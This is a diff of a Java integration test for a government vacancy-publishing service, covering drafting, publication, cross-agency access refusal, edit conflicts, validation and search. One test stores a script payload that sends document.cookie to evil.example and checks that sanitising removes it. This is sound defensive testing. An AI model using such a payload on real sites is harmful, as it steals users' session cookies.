@@ -1,8 +1,9 @@
 package kg.gov.kuzmat.vacancy;
 
 import jakarta.ejb.EJB;
+import jakarta.validation.ConstraintViolationException;
 import kg.gov.kuzmat.agency.Agency;
-import kg.gov.kuzmat.agency.Region;
+import kg.gov.kuzmat.agency.AgencyType;
 import kg.gov.kuzmat.testing.AsHrOfficer;
 import kg.gov.kuzmat.testing.AsOtherHrOfficer;
 import kg.gov.kuzmat.testing.CallingAs;
@@ -16,14 +17,14 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 
 import java.time.LocalDate;
-import java.util.List;
 
+import static kg.gov.kuzmat.testing.Refusals.assertRefusedBecauseOf;
 import static kg.gov.kuzmat.testing.Refusals.assertRefusedWith;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-/** An HR officer drafts and publishes a vacancy of their agency; the public catalogue shows it. */
+/** An HR officer's vacancy through its life, as the service layer enforces it. */
 @ExtendWith(ArquillianExtension.class)
 class VacancyPublicationIT {
 
@@ -56,65 +57,144 @@ class VacancyPublicationIT {
         testData.hrOfficer(CallingAs.OTHER_HR_OFFICER_EMAIL, testData.agency());
     }
 
-    private static VacancyDraft draft(String title, LocalDate deadline) {
-        return new VacancyDraft(title, "Ведение реестра", "Высшее юридическое образование", PositionGroup.SENIOR,
-                28000, 34000, Region.TALAS, deadline);
+    private static VacancyContent content(String title, int daysToDeadline) {
+        return SampleContent.withTitleAndDeadline(title, LocalDate.now().plusDays(daysToDeadline));
+    }
+
+    private Vacancy draft(String title) throws Exception {
+        return hrOfficer.call(() -> drafting.createDraft(content(title, 20)));
+    }
+
+    private Vacancy published(String title) throws Exception {
+        Vacancy draft = draft(title);
+        return hrOfficer.call(() -> drafting.publish(draft.getId(), draft.getVersion()));
+    }
+
+    private VacancySearch byAgency(String query, boolean openOnly) {
+        return new VacancySearch(query, agency.getCode(), null, null, null, null, null, openOnly, null, 0, 10);
     }
 
     @Test
-    void aPublishedVacancyAppearsFirstInTheCatalogueAndADraftNever() throws Exception {
+    void aPublishedVacancyIsFoundInTheCatalogueAndADraftNever() throws Exception {
         String title = TestData.unique("Ведущий специалист");
-        long publishedBefore = catalogue.countPublished();
+        Vacancy draft = draft(title);
+        assertEquals(agency.getCode(), draft.getAgency().getCode(), "drafted for the officer's own agency");
+        assertEquals(0, catalogue.search(byAgency(null, false)).total(), "a draft is not public");
+        assertTrue(catalogue.findPublic(draft.getId()).isEmpty());
 
-        Vacancy created = hrOfficer.call(() -> drafting.createDraft(draft(title, LocalDate.now().plusDays(20))));
-        assertEquals(VacancyStatus.DRAFT, created.getStatus());
-        assertEquals(agency.getCode(), created.getAgency().getCode(), "drafted for the officer's own agency");
-        assertFalse(titles(catalogue.findPublished(0, 100)).contains(title), "a draft is not public");
+        hrOfficer.call(() -> drafting.publish(draft.getId(), draft.getVersion()));
 
-        Vacancy published = hrOfficer.call(() -> drafting.publish(created.getId()));
-        assertEquals(VacancyStatus.PUBLISHED, published.getStatus());
-        assertEquals(publishedBefore + 1, catalogue.countPublished());
-        VacancySummary newest = catalogue.findPublished(0, 1).get(0);
-        assertEquals(title, newest.title(), "published today, so first in the newest-first list");
-        assertEquals(agency.getName(), newest.agencyName());
+        SearchResult<VacancySummary> found = catalogue.search(byAgency(null, true));
+        assertEquals(1, found.total());
+        assertEquals(title, found.items().get(0).title());
+        assertEquals(agency.getName(), found.items().get(0).agencyName());
+        assertTrue(catalogue.findPublic(draft.getId()).isPresent());
     }
 
     @Test
-    void anOfficerOfAnotherAgencyCannotPublishTheVacancy() throws Exception {
-        Vacancy created = hrOfficer.call(() -> drafting.createDraft(draft("Специалист", LocalDate.now().plusDays(20))));
+    void anOfficerOfAnotherAgencyCanNeitherSeeNorChangeTheVacancy() throws Exception {
+        Vacancy vacancy = published("Специалист");
+        long id = vacancy.getId();
+        long version = vacancy.getVersion();
 
-        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.publish(created.getId())));
-        assertRefusedWith("vacancy.publish.notDraft", () -> hrOfficer.call(() -> {
-            drafting.publish(created.getId());
-            return drafting.publish(created.getId());
-        }));
+        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.findOwn(id)));
+        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.revise(id, version, content("Чужая", 30))));
+        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.cancel(id, version, "Чужая")));
+        assertTrue(otherHrOfficer.call(() -> drafting.listOwn()).stream().noneMatch(v -> v.getId() == id));
+        assertEquals("Специалист", hrOfficer.call(() -> drafting.findOwn(id)).getTitle(), "nothing was changed");
     }
 
     @Test
-    void aDeadlineShorterThanTheMinimumPublicationPeriodIsRefused() throws Exception {
-        Vacancy created = hrOfficer.call(() -> drafting.createDraft(draft("Специалист", LocalDate.now().plusDays(3))));
+    void theSecondOfTwoOfficersEditingTheSameVersionIsToldToReloadAndOverwritesNothing() throws Exception {
+        Vacancy draft = draft("Специалист");
+        long seenByBoth = draft.getVersion();
 
-        assertRefusedWith("vacancy.publish.deadlineTooSoon", () -> hrOfficer.call(() -> drafting.publish(created.getId())));
+        hrOfficer.call(() -> drafting.revise(draft.getId(), seenByBoth, content("Главный специалист", 20)));
+        assertRefusedWith("vacancy.edit.changedMeanwhile",
+                () -> hrOfficer.call(() -> drafting.revise(draft.getId(), seenByBoth, content("Ведущий специалист", 20))));
+
+        assertEquals("Главный специалист", hrOfficer.call(() -> drafting.findOwn(draft.getId())).getTitle());
     }
 
     @Test
-    void aSalaryMinimumAboveTheMaximumIsRefused() {
-        VacancyDraft inverted = new VacancyDraft("Специалист", "Обязанности", "Требования", PositionGroup.JUNIOR,
-                40000, 30000, Region.TALAS, LocalDate.now().plusDays(20));
+    void editsAfterPublicationAreRecordedAndShownWithTheVacancy() throws Exception {
+        Vacancy vacancy = published("Специалист");
 
-        assertRefusedWith("vacancy.salary.minAboveMax", () -> hrOfficer.call(() -> drafting.createDraft(inverted)));
+        hrOfficer.call(() -> drafting.revise(vacancy.getId(), vacancy.getVersion(),
+                SampleContent.withSalary(content("Специалист", 25), 32000, 38000)));
+
+        Vacancy shown = catalogue.findPublic(vacancy.getId()).orElseThrow();
+        assertEquals(3, shown.getChanges().size(), "deadline, salary minimum and maximum");
+        assertTrue(shown.getChanges().stream().allMatch(change -> CallingAs.HR_OFFICER_EMAIL.equals(change.getChangedBy())));
     }
 
     @Test
-    void theCataloguePagesInTheDatabaseWithoutRepeatingRows() {
-        List<VacancySummary> firstPage = catalogue.findPublished(0, 5);
-        List<VacancySummary> secondPage = catalogue.findPublished(5, 5);
+    void aCancelledVacancyShowsItsReasonAndLeavesTheOpenList() throws Exception {
+        Vacancy vacancy = published("Специалист");
 
-        assertEquals(5, firstPage.size(), "the demo data alone publishes thirty vacancies");
-        assertTrue(firstPage.stream().noneMatch(secondPage::contains));
+        hrOfficer.call(() -> drafting.cancel(vacancy.getId(), vacancy.getVersion(), "Штатная единица сокращена"));
+
+        assertEquals(0, catalogue.search(byAgency(null, true)).total());
+        assertEquals(1, catalogue.search(byAgency(null, false)).total());
+        Vacancy shown = catalogue.findPublic(vacancy.getId()).orElseThrow();
+        assertEquals(VacancyStatus.CANCELLED, shown.getStatus());
+        assertEquals("Штатная единица сокращена", shown.getCancellationReason());
     }
 
-    private static List<String> titles(List<VacancySummary> summaries) {
-        return summaries.stream().map(VacancySummary::title).toList();
+    @Test
+    void invalidContentIsRefusedByValidationAndNothingIsStored() throws Exception {
+        VacancyContent noTitle = content(" ", 20);
+        assertRefusedBecauseOf(ConstraintViolationException.class, () -> hrOfficer.call(() -> drafting.createDraft(noTitle)));
+
+        assertRefusedWith("vacancy.salary.minAboveMax",
+                () -> hrOfficer.call(() -> drafting.createDraft(SampleContent.withSalary(content("Специалист", 20), 40000, 30000))));
+        assertTrue(hrOfficer.call(() -> drafting.listOwn()).isEmpty());
+    }
+
+    @Test
+    void aDeadlineShorterThanTheMinimumPublicationPeriodCannotBePublished() throws Exception {
+        Vacancy draft = hrOfficer.call(() -> drafting.createDraft(content("Специалист", 3)));
+
+        assertRefusedWith("vacancy.publish.deadlineTooSoon",
+                () -> hrOfficer.call(() -> drafting.publish(draft.getId(), draft.getVersion())));
+    }
+
+    @Test
+    void storedRichTextNeverCarriesAScript() throws Exception {
+        VacancyContent hostile = SampleContent.withDuties(content("Специалист", 20),
+                "<p>Обязанности<script>document.location='https://evil.example/'+document.cookie</script></p>");
+
+        Vacancy saved = hrOfficer.call(() -> drafting.createDraft(hostile));
+
+        assertEquals("<p>Обязанности</p>", hrOfficer.call(() -> drafting.findOwn(saved.getId())).getDuties());
+    }
+
+    @Test
+    void theSearchFindsWordsByTheirBeginningInTitleAndDutiesWithFilters() throws Exception {
+        String marker = "маркер" + TestData.unique("x").substring(2);
+        published("Башкы адис " + marker);
+        hrOfficer.call(() -> drafting.createDraft(content("Башкы адис " + marker, 20)));
+
+        assertEquals(1, catalogue.search(byAgency("БАШКЫ", true)).total(), "case does not matter; drafts are not found");
+        assertEquals(1, catalogue.search(byAgency("адис экспертиз", true)).total(), "duties are searched, by prefix");
+        assertEquals(0, catalogue.search(byAgency("адис бухгалтер", true)).total(), "every word must match");
+        VacancySearch municipalOnly = new VacancySearch(marker, null, AgencyType.MUNICIPAL,
+                null, null, null, null, true, VacancySort.DEADLINE, 0, 10);
+        assertEquals(0, catalogue.search(municipalOnly).total(), "the test agency is a state body");
+        VacancySearch wellPaid = new VacancySearch(marker, null, null, null, PositionGroup.SENIOR, 36000,
+                CompetitionType.OPEN, true, VacancySort.SALARY, 0, 10);
+        assertEquals(1, catalogue.search(wellPaid).total());
+    }
+
+    @Test
+    void pagesOfTheSearchNeverRepeatAVacancy() {
+        VacancySearch first = new VacancySearch(null, null, null, null, null, null, null, false, VacancySort.DEADLINE, 0, 5);
+        VacancySearch second = new VacancySearch(null, null, null, null, null, null, null, false, VacancySort.DEADLINE, 1, 5);
+
+        var one = catalogue.search(first).items();
+        var two = catalogue.search(second).items();
+
+        assertEquals(5, one.size(), "the demo data alone publishes thirty vacancies");
+        assertFalse(one.stream().anyMatch(two::contains));
     }
 }
